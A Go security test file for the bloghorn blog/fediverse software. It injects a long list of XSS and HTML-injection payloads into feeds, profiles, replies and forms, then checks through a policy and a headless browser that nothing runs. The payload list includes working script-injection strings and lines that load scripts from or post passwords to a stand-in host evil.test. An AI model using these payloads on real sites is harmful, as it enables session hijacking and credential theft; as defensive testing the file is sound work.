package cli

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"github.com/bloghorn/bloghorn/publisher/activitypub"
	"github.com/bloghorn/bloghorn/publisher/fediversetest"
	"github.com/bloghorn/bloghorn/server/costtest"
	"github.com/bloghorn/bloghorn/server/exit"
	"github.com/bloghorn/bloghorn/server/web/browsertest"
)

// payloads are ways to have a page run a script, ask another server, or stop being the page it was. Each calls alert, or names evil.test.
var payloads = []string{
	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script src=//evil.test/x.js></script>`,
	`<script type=module>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`,
	"`><img src=x onerror=alert(1)>", `" onmouseover="alert(1)" x="`, `' onfocus='alert(1)' autofocus='`, `x" autofocus onfocus=alert(1) tabindex=1 "`,
	`<img src="https://evil.test/pixel.gif">`, `<img srcset="https://evil.test/a 1x">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<object data="javascript:alert(1)"></object>`,
	`<embed src="//evil.test/x">`, `<a href="javascript:alert(1)">x</a>`, `<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:alert(1)">x</a>`, `<form action="javascript:alert(1)"><button>x</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<form action="https://evil.test/"><input name=password></form>`, `<isindex action="javascript:alert(1)">`, `<base href="https://evil.test/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.test/">`, `<link rel=stylesheet href=https://evil.test/x.css>`, `<style>@import "https://evil.test/x.css";</style>`,
	`<p style="background:url(https://evil.test/x)">x</p>`, `<p style="position:fixed;inset:0">x</p>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`, `<video poster=//evil.test/x></video>`, `<audio src=//evil.test/x autoplay></audio>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<textarea></textarea><img src=x onerror=alert(1)></textarea>`, `</title><img src=x onerror=alert(1)>`, `</style><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`, `<plaintext><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[><img src=x onerror=alert(1)>]]>`, `<select><template><img src=x onerror=alert(1)></select>`, `</article></li></ol></section><img src=x onerror=alert(1)>`,
	`&lt;img src=x onerror=alert(1)&gt;`, `&amp;lt;img src=x onerror=alert(1)&amp;gt;`, `\u003cimg src=x onerror=alert(1)\u003e`, `%3Cimg%20src=x%20onerror=alert(1)%3E`,
	`{{.}}${alert(1)}#{alert(1)}{{constructor.constructor('alert(1)')()}}`, `javascript:alert(1)`, `javascript://pasture.test/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`,
	` javascript:alert(1)`, `//evil.test/x`, `https://evil.test/"onclick="alert(1)`, "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<bloghorn-comments src="https://evil.test/"></bloghorn-comments>`,
	`<input type=image src=//evil.test/x onerror=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<a href=https://evil.test ping=https://evil.test/ping>x</a>`,
	`<portal src=https://evil.test>`, `<dialog open onclose=alert(1)>x</dialog>`, `<img name=cookie><form name=getElementById>`, `<a id=defaultView></a>`,
}

// TestPayloadsAreHarmlessInEverySink puts each payload into each field that a stranger or a feed
// has, and reads everything: every route, the admin pages and the preview. The HTML is held against
// a policy, and a real browser, which is told of no policy of ours, runs nothing of it and asks
// nobody.
func TestPayloadsAreHarmlessInEverySink(t *testing.T) {
	t.Parallel()
	c := newChecked(t)
	// All of them at once come first, so that none is left out of the short form.
	corpus := append([]string{strings.Join(payloads, " ")}, every(payloads, costtest.Pick(4, 1))...)
	c.f.Handle("https://evil.test/feed.xml", says("application/rss+xml", evilFeed(corpus)))
	if _, _, err := addBlog(t.Context(), c.App, blogAddCommand{Address: "https://evil.test/feed.xml", Handle: "evil"}); err != nil {
		t.Fatal(err)
	}
	var answers []string
	for i, payload := range corpus {
		p := c.f.Person("eve", fmt.Sprintf("evil-%d.test", i), evilProfile(payload)...)
		reply := p.Reply(c.post, payload, append(evilFields(payload), fediversetest.At(teaBase+"/inbox"))...)
		if reply.Status == http.StatusAccepted {
			answers = append(answers, reply.ObjectID)
		}
		p.React(c.post, payload)
		p.Like(c.post, fediversetest.With("content", payload), fediversetest.With("tag", evilTags(payload)))
		p.Boost(c.post)
		p.Post(teaBase+"/inbox", activitypub.Object{
			"id": p.ID + "#flag", "type": "Flag", "actor": p.ID, "object": []any{teaBlog, reply.ObjectID}, "content": payload, "summary": payload,
		})
	}
	c.settled(t)
	if len(answers) < len(corpus)*3/4 {
		t.Fatalf("only %d of %d replies were taken", len(answers), len(corpus))
	}

	pages := c.everyRoute(t, c.everyName(t), append(c.everyQuery(c.page, answers[0], "https://evil.test/post-1", `"><img src=x onerror=alert(1)>`),
		"?reply="+url.QueryEscape(`"><img src=x onerror=alert(1)>`)+"&url="+url.QueryEscape(c.page)))
	pages = append(pages, c.adminPages(t)...)
	pages = append(pages, c.refusedForms(t, corpus)...)
	pages = append(pages, c.previewPage(t))
	var shown []answered
	tried := 0
	for _, page := range pages {
		switch kind := page.header.Get("Content-Type"); {
		case page.isPage():
			checkTree(t, page.from, page.body)
			shown = append(shown, page)
		case strings.Contains(kind, "json"):
			checkJSON(t, page)
		case strings.Contains(kind, "xml"):
			checkAtom(t, page)
		}
		if page.status < 300 && page.header.Get("X-Content-Type-Options") != "nosniff" && page.from != "preview" {
			t.Errorf("%s: a browser may take it for something else: %v", page.from, page.header)
		}
		if strings.Contains(page.body, "alert(1)") {
			tried++
		}
	}
	if tried < 10 {
		t.Errorf("only %d of %d answers have payloads: nothing was tried", tried, len(pages))
	}
	t.Logf("%d payloads, %d answers, %d of them pages, %d with words of a payload", len(corpus), len(pages), len(shown), tried)
	t.Run("in a browser", func(t *testing.T) { c.browse(t, shown) })
}

// every takes each n-th.
func every(list []string, n int) (some []string) {
	for i := 0; i < len(list); i += n {
		some = append(some, list[i])
	}
	return some
}

func evilProfile(payload string) []fediversetest.Trait {
	set := fediversetest.Profile
	return []fediversetest.Trait{
		set("name", payload), set("summary", payload), set("url", payload), set("icon", activitypub.Object{"type": "Image", "url": payload, "name": payload}),
		set("attachment", []any{activitypub.Object{"type": "PropertyValue", "name": payload, "value": payload}}), set("tag", evilTags(payload)),
		set("preferredUsername", "eve"+payload),
	}
}

func evilFields(payload string) []fediversetest.Option {
	set := fediversetest.With
	file := func(kind, media, address string) activitypub.Object {
		return activitypub.Object{"type": kind, "mediaType": media, "url": address, "href": address, "name": payload, "summary": payload}
	}
	return []fediversetest.Option{
		set("name", payload), set("summary", payload), set("url", payload), set("contentMap", activitypub.Object{payload: payload, "en": payload}),
		set("language", payload), set("mediaType", payload), set("tag", evilTags(payload)), set("conversation", payload),
		set("attachment", []any{
			file("Image", "image/png", payload), file("Document", payload, "https://evil.test/x.png"), file(payload, "video/mp4", "https://evil.test/"+payload),
			file("Audio", "audio/mpeg", "https://evil.test/x.mp3"), file("Link", "text/html", payload),
			activitypub.Object{"type": "Image", "url": "https://evil.test/y.png", "summary": payload},
		}),
	}
}

func evilTags(payload string) []any {
	return []any{
		activitypub.Object{"type": "Mention", "href": teaBlog, "name": payload}, activitypub.Object{"type": "Hashtag", "href": payload, "name": "#" + payload},
		activitypub.Object{"type": "Emoji", "id": payload, "name": ":" + payload + ":", "icon": activitypub.Object{"type": "Image", "mediaType": payload, "url": payload}},
	}
}

// evilFeed has each payload in each place of a feed.
func evilFeed(corpus []string) string {
	escape := func(s string) string {
		var out strings.Builder
		xml.EscapeText(&out, []byte(s))
		return out.String()
	}
	items := ""
	for i, payload := range corpus {
		p, link := escape(payload), fmt.Sprintf("https://evil.test/post-%d", i)
		if i%2 == 1 {
			link += "?" + p
		}
		items += `<item><title>` + p + `</title><guid isPermaLink="false">` + fmt.Sprint(i) + p + `</guid><link>` + link + `</link><description>` + p + `</description>` +
			`<category>` + p + `</category><dc:creator>` + p + `</dc:creator><author>` + p + `</author><enclosure url="` + p + `" type="` + p + `" length="1"/>` +
			`<media:content url="https://evil.test/x.png" medium="image"><media:description>` + p + `</media:description></media:content>` +
			`<content:encoded>` + p + escape(`<img src="https://evil.test/y.png" alt="`+payload+`">`) + `</content:encoded></item>`
	}
	all := escape(corpus[0])
	return `<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">` +
		`<channel><title>` + all + `</title><link>https://evil.test/</link><description>` + all + `</description><language>` + all + `</language><managingEditor>` + all +
		`</managingEditor><image><url>` + all + `</url><title>` + all + `</title></image>` + items + `</channel></rss>`
}

// refusedForms are the answers to readers who send the payloads themselves.
func (c *checked) refusedForms(t *testing.T, corpus []string) (all []answered) {
	t.Helper()
	for _, payload := range corpus {
		for _, form := range []url.Values{{"url": {c.page}, "account": {payload}}, {"url": {payload}, "account": {"@a@" + payload}, "reply": {payload}}} {
			r := httptest.NewRequest("POST", teaBase+"/thread", strings.NewReader(form.Encode()))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			w := httptest.NewRecorder()
			c.App.Handler().ServeHTTP(w, r)
			all = append(all, answered{"POST /thread?" + form.Encode(), w.Code, w.Result().Header, w.Body.String()})
		}
	}
	return all
}

// previewPage is what the preview of the hostile feed shows.
func (c *checked) previewPage(t *testing.T) answered {
	t.Helper()
	home := httptest.NewServer(says("application/rss+xml", evilFeed(payloads)))
	defer home.Close()
	var out, said strings.Builder
	args := []string{"preview", home.URL, "--open", "-n", "50", "--feed-allow-private", strings.TrimPrefix(home.URL, "http://"), "--config", emptyConfig(t)}
	if code := run(t.Context(), args, &out, &said); code != exit.OK {
		t.Fatalf("preview: exit %d: %s", code, said.String())
	}
	file := strings.TrimSpace(out.String())
	defer os.Remove(file)
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return answered{"preview", 200, http.Header{"Content-Type": {"text/html"}}, string(text)}
}

// harmless are the elements that our pages consist of.
var harmless = strings.Fields(`html head meta title link script style body header main footer nav article section h1 h2 h3 h4 h5 h6 p a bdi dl dt dd div span strong b em i u del s
small code pre blockquote ul ol li details summary br hr time form fieldset legend label input button select option output table thead tbody tr td th caption abbr sub sup ruby rt rp q cite
noscript template slot img figure figcaption`)

// checkTree parses a page as a browser does, and fails on whatever acts or asks another server.
func checkTree(t *testing.T, from, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Errorf("%s: %v", from, err)
		return
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(harmless, n.Data) || n.Namespace != "" {
			t.Errorf("%s: <%s> came out", from, n.Data)
		}
		if n.FirstChild != nil && (n.Data == "script" || n.Data == "style" && strings.Contains(n.FirstChild.Data, "evil")) {
			t.Errorf("%s: <%s> with content came out: %.80q", from, n.Data, n.FirstChild.Data)
		}
		for _, a := range n.Attr {
			if bad := attributeFault(n.Data, a); bad != "" {
				t.Errorf("%s: <%s %s=%.80q>: %s", from, n.Data, a.Key, a.Val, bad)
			}
		}
	}
}

// attributeFault says what is wrong with an attribute; "" if nothing is.
func attributeFault(element string, a html.Attribute) string {
	scheme, _, hasScheme := strings.Cut(strings.ToLower(strings.TrimLeft(a.Val, " \t\n\r\x00\x01")), ":")
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "srcset", a.Key == "ping", a.Key == "formaction", a.Key == "background", a.Key == "poster":
		return "acts"
	case a.Key == "http-equiv" && strings.EqualFold(a.Val, "refresh"):
		return "leads away"
	case a.Key != "href" && a.Key != "src" && a.Key != "action" && a.Key != "data" && a.Key != "cite":
		return ""
	case element == "a" && hasScheme && !slices.Contains([]string{"https", "http", "mailto", "web+ap"}, scheme) && !strings.ContainsAny(scheme, "/?#"):
		return "is no address of a page"
	case element != "a" && (strings.Contains(a.Val, "//evil") || strings.HasPrefix(a.Val, "//") || slices.Contains([]string{"javascript", "vbscript"}, scheme)):
		return "asks a stranger's server"
	}
	return ""
}

// checkJSON: what is HTML in it is clean, what is an address is one.
func checkJSON(t *testing.T, page answered) {
	t.Helper()
	var tree any
	if err := json.Unmarshal([]byte(page.body), &tree); err != nil {
		t.Errorf("%s: %v", page.from, err)
		return
	}
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch v := v.(type) {
		case map[string]any:
			for key, inner := range v {
				walk(key, inner)
			}
		case []any:
			for _, inner := range v {
				walk(key, inner)
			}
		case string:
			switch key {
			case "html":
				checkTree(t, page.from+" "+key, v)
			case "content": // a post, whose pictures the blog's own feed has
				checkTree(t, page.from+" "+key, ownPicture.ReplaceAllString(v, "<img"))
			case "url", "href", "avatar":
				if v != "" && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") {
					t.Errorf("%s: %s is %.80q", page.from, key, v)
				}
			}
		}
	}
	walk("", tree)
}

// ownPicture is a picture in a post as other servers get it.
var ownPicture = regexp.MustCompile(`<img src="https://[^"<>]*"`)

// checkAtom: it is XML, and the HTML in it is clean.
func checkAtom(t *testing.T, page answered) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(page.body))
	var text strings.Builder
	for {
		token, err := d.Token()
		if token == nil {
			if err.Error() != "EOF" {
				t.Errorf("%s: %v", page.from, err)
			}
			return
		}
		switch token := token.(type) {
		case xml.StartElement:
			text.Reset()
			if strings.Contains(token.Name.Space, "xhtml") || token.Name.Local == "script" {
				t.Errorf("%s: <%s> came out", page.from, token.Name.Local)
			}
		case xml.CharData:
			text.Write(token)
		case xml.EndElement:
			if token.Name.Local == "content" {
				checkTree(t, page.from+" content", text.String())
			}
			text.Reset()
		}
	}
}

// browse shows each page to a browser, without the headers by which we forbid it scripts, and a page of the blog with the comments in it.
func (c *checked) browse(t *testing.T, pages []answered) {
	ctx := browsertest.Open(t)
	longest := map[string]string{} // by what was asked, without its query
	for _, page := range pages {
		asked, _, _ := strings.Cut(page.from, "?")
		if asked, _, _ = strings.Cut(asked, " as "); strings.Contains(page.body, "alert(1)") && len(page.body) > len(longest[asked]) {
			longest[asked] = page.body
		}
	}
	shown := map[string]string{}
	for _, body := range longest {
		shown[fmt.Sprintf("/page/%d", len(shown))] = body
	}
	const watch = `<!doctype html><script>window.ran = 0; window.alert = () => window.ran++</script>`
	shown["/blog"] = `<title>x</title><link rel="canonical" href="` + c.page + `"><script type="module" src="/widget/1/comments.js"></script><bloghorn-comments loading="eager"></bloghorn-comments>`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if body, ok := shown[r.URL.Path]; ok {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, watch, body)
			return
		}
		r.Host = "fedi.tea.test"
		c.App.Handler().ServeHTTP(w, r)
	}))
	defer server.Close()
	seen := browsertest.Watch(t, ctx)
	for path := range shown {
		browsertest.Do(t, ctx, chromedp.Navigate(server.URL+path))
		if path == "/blog" {
			browsertest.Until(t, ctx, `document.querySelector("bloghorn-comments").dataset.state === "loaded"`)
			if n := browsertest.Get[int](t, ctx, `document.querySelector("bloghorn-comments").shadowRoot.querySelectorAll("article").length`); n < 10 {
				t.Errorf("the element shows %d replies: nothing was tried", n)
			}
		}
		// Whatever can be opened is opened, and what waits for a moment has it.
		browsertest.Get[int](t, ctx, `(document.querySelectorAll("details").forEach(d => d.open = true), new Promise(r => setTimeout(() => r(1), 50)))`)
		if ran := browsertest.Get[int](t, ctx, `window.ran ?? -1`); ran != 0 {
			t.Errorf("a script ran %d times in %.300s", ran, shown[path])
		}
	}
	for _, address := range seen.Requests() {
		if !strings.HasPrefix(address, server.URL+"/") {
			t.Errorf("the browser asked for %s", address)
		}
	}
	t.Logf("%d pages", len(shown))
}
